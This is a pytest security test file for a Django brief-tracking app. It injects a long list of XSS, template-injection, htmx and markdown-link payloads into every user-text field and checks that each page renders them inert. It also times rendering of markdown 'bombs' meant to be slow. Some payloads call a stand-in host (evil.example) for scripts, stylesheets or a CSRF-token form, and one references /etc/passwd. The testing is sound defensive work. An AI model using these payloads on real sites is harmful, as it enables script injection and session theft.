"""Hostile text, by every way onto the page: it is shown, and it does nothing. And text that is made to be slow."""

from __future__ import annotations

import re
import time
from html.parser import HTMLParser

import pytest

from briefs import trace
from briefs.models import Actor, Brief, Link, Project
from briefs.services import briefs, proposals, questions, specs
from core import markdown
from tests.factories import agent, operator

pytestmark = pytest.mark.django_db

PAYLOADS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "{{ constructor.constructor('alert(1)')() }}",
    "{% load static %}{{ request.user }}",
    "<img src=x onerror=alert(1)>",
    "<img/src='x'/onerror=alert(1)>",
    "<img src=`x`onerror=alert(1)>",
    "<IMG SRC=javascript:alert(1)>",
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<style>@import '//evil.example/x.css';</style>",
    "<div style=\"background:url('javascript:alert(1)')\">x</div>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<form action=//evil.example><input name=csrfmiddlewaretoken></form>",
    "<marquee onstart=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<div hx-get=/logout/ hx-trigger=load>x</div>",
    "<div data-hx-post=/briefs/1/note/ hx-trigger=revealed>x</div>",
    "<div hx-on:click=alert(1) hx-swap-oob=true id=head>x</div>",
    "<meta name=htmx-config content='{\"allowEval\":true}'>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x]( javascript:alert(1) )",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "[x](//evil.example \"onmouseover=alert(1)\")",
    "[x](https://a\"onmouseover=alert(1)//)",
    "[x](<javascript:alert(1)>)",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2Zz48c2NyaXB0PmFsZXJ0KDEpPC9zY3JpcHQ+PC9zdmc+)",
    "![x](https://evil.example/pixel.png)",
    "![\" onerror=\"alert(1)](https://evil.example/x)",
    "![x](/briefs/1/attachments/../../../logout/)",
    "[x]: javascript:alert(1)\n\n[x]",
    "```html\n</code></pre><script>alert(1)</script>\n```",
    "```\"><img src=x onerror=alert(1)>\nx\n```",
    "`</code><script>alert(1)</script>`",
    "| <img src=x onerror=y> |\n|-|\n| <script>x</script> |",
    "# <img src=x onerror=alert(1)>",
    "- [x] <script>alert(1)</script>",
    "@operator:mike\"><script>alert(1)</script>",
    "#1\"><script>alert(1)</script>",
    "<span class=\"ref\">#1</span>",
    "<a class=\"ref\" href=\"/logout/\">#1</a>",
    "\u2028\u2029<script>alert(1)</script>",
    "\ufeff<script\x0c>alert(1)</script>",
    "＜script＞alert(1)＜/script＞ \u202e<script>alert(1)</script>",
    "'\"><svg/onload=alert(1)>' \"'",
]  # fmt: skip
# A name is escaped by one filter, whatever is in it, so one of each way out of a text proves as much as all of them:
# out of an element, an attribute, a textarea, a comment; a template's, a link's, an htmx attribute; letters that hide.
NAMES = [
    "<script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "{% load static %}{{ request.user }}",
    "<img src=x onerror=alert(1)>",
    "<div hx-on:click=alert(1) hx-swap-oob=true id=head>x</div>",
    "[x](java\tscript:alert(1))",
    "<javascript:alert(1)>",
    "![\" onerror=\"alert(1)](https://evil.example/x)",
    "#1\"><script>alert(1)</script>",
    "\ufeff<script\x0c>alert(1)</script>",
    "'\"><svg/onload=alert(1)>' \"'",
]  # fmt: skip
TAGS_OF_TEXT = {
    "a", "blockquote", "br", "code", "del", "div", "em", "h1", "h2", "h3", "h4", "h5", "h6", "hr", "img", "input", "li",
    "ol", "p", "pre", "s", "span", "strong", "table", "tbody", "td", "th", "thead", "tr", "ul",
}  # fmt: skip


class Acting(HTMLParser):
    """What on a page could act, as a browser's own reading of it finds it."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []
        self.scripts: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        given = dict(attrs)
        if tag == "script":
            self.scripts.append(given.get("src") or "inline")
        if tag in {"iframe", "object", "embed", "base", "style", "math", "template", "marquee", "video", "audio"}:
            self.found.append(tag)
        for name, value in attrs:
            address = re.sub(r"[\x00-\x20]", "", value or "").lower()
            if name.startswith(("on", "hx-on", "style", "srcdoc")):
                self.found.append(f"{tag} {name}={value}")
            if name in {"href", "src", "action", "formaction", "xlink:href", "data"} and address.startswith(
                ("javascript:", "vbscript:", "data:", "file:")
            ):
                self.found.append(f"{tag} {name}={value}")
            if tag in {"img", "link"} and name in {"src", "href"} and "evil" in address:
                self.found.append(f"{tag} {name}={value}")


def acting(page: str) -> list[str]:
    reader = Acting()
    reader.feed(page)
    assert all(source.startswith("/static/") for source in reader.scripts), reader.scripts
    return reader.found


@pytest.fixture
def hostile(project, request):
    """A brief on which one payload stands wherever text of somebody can."""

    def put(payload: str) -> Brief:
        writer = agent()
        brief = Brief.objects.create(
            title=(payload + " title")[:200], project=project, created_by=writer, updated_at=project.created_at
        )
        parent = Brief.objects.create(title=payload[:200], created_by=writer, updated_at=project.created_at)
        brief.parent = parent
        brief.save(update_fields=["parent"])
        trace.append(brief, "captured", actor=writer, body=payload)
        specs.update(brief, f"{payload}\n\n{payload} inline", base_version=0, actor=writer, why=payload)
        briefs.note(brief, f"before {payload} after\n\n{payload}", actor=operator())
        name = Actor.objects.create(ref=payload[:100], kind="agent")  # whatever got into the database
        briefs.note(brief, "named", actor=name)
        Project.objects.filter(pk=project.pk).update(slug=payload[:60])
        brief.project.refresh_from_db()
        for kind in ("url", "brief", "commit", "scratchpad"):
            Link.objects.create(brief=brief, kind=kind, target=payload[:200], label=payload[:100], actor=writer)
            data = {"kind": kind, "target": payload, "label": payload, "relation": payload}
            trace.append(brief, "link_added", actor=writer, data=data)
        keys = ("title", "was", "from", "to", "by", "branch", "agent", "command", "class", "worktree", "state", "role")
        for kind in ("status_change", "refinement", "merged", "worktree", "gate", "refused", "process"):
            trace.append(brief, kind, actor=writer, data=dict.fromkeys(keys, payload) | {"dispatch": 1, "process": 1})
        questions.ask(brief, payload, actor=writer, options=[payload])
        proposals.propose(brief, f"plan {payload}", actor=writer)
        return brief

    return put


@pytest.mark.parametrize("payload", PAYLOADS)
def test_it_does_nothing_wherever_it_stands(browser, hostile, payload):
    brief = hostile(payload)
    page = browser.get(brief.get_absolute_url())
    assert page.status_code == 200
    assert acting(page.content.decode()) == []
    for path in ("spec/versions/", "completions/?q=%23"):
        assert acting(browser.get(f"/briefs/{brief.pk}/{path}").content.decode()) == [], path
    shown = browser.post(f"/briefs/{brief.pk}/preview/", {"text": payload}).content.decode()
    assert acting(shown) == []
    refused = browser.post(f"/briefs/{brief.pk}/spec/", {"spec": payload, "base_version": "77", "why": payload})
    assert refused.status_code == 409 and acting(refused.content.decode()) == []
    if payload.strip():
        markup = set(re.findall(r"<([a-z0-9]+)", markdown.render(payload)))
        assert markup <= TAGS_OF_TEXT


def test_there_are_enough_of_them():
    assert len(set(PAYLOADS)) >= 60
    assert set(NAMES) <= set(PAYLOADS)


BOMBS = {
    "brackets": "[" * 19_000,
    "brackets in lines": "\n".join(["[" * 900] * 250),
    "quotes": "> " * 9_000 + "x",
    "lists": "\n".join("  " * n + "- x" for n in range(400)),
    "stars": "*a **b " * 2_800,
    "stars in paragraphs": "\n\n".join(["*a **b _c `d " * 200] * 80),
    "links": "[a](" * 4_500,
    "images": "![a](b " * 2_700,
    "ticks": "".join("`" * n + " " for n in range(1, 190)),
    "one line": "x" * 249_000,
    "table of many columns": "|a" * 6_000 + "|\n" + "|-" * 6_000 + "|\n" + "|b" * 6_000 + "|",
    "table of many rows": "|a|b|c|\n|-|-|-|\n" + "|1|2|3|\n" * 25_000,
    "references": "#1 @mike " * 2_200,
    "references in lines": "#1 @mike @a:b.c/d-e\n" * 12_000,
    "code": "```python\n" + "((((((((((x" * 20_000 + "\n```",
    "code in lines": "```html\n" + "<a <b <c '\"\n" * 15_000 + "```",
    "entities": "&amp;&#x26;&" * 15_000,
    "definitions": "\n".join(f"[{n}]: /x" for n in range(15_000)),
    "headings": "# a\n" * 40_000,
    "same heading": "\n\n".join(["# Goal"] * 30_000),
}


@pytest.mark.parametrize("name", BOMBS)
def test_text_that_is_made_to_be_slow_is_shown_soon(browser, project, name):
    text = BOMBS[name][: specs.MAX_SPEC]
    brief = briefs.capture("Bomb", actor=operator(), project=project, spec=text)
    began = time.monotonic()
    assert browser.get(brief.get_absolute_url()).status_code == 200
    assert time.monotonic() - began < 20  # a hang, not a speed: seconds on an idle machine
    began = time.monotonic()
    assert browser.get(brief.get_absolute_url()).status_code == 200
    assert time.monotonic() - began < 5


def test_comparing_is_bounded_too(browser, project):
    brief = briefs.capture("Compare", actor=operator(), project=project, spec="a\nb\n" * 2_000)
    specs.update(brief, "b\na\na\n" * 1_400, base_version=1, actor=operator())
    specs.update(brief, "b" * 200_000, base_version=2, actor=operator())
    for query in ("old=1&new=2", "old=2&new=3"):
        began = time.monotonic()
        assert browser.get(f"/briefs/{brief.pk}/spec/versions/?{query}").status_code == 200
        assert time.monotonic() - began < 20
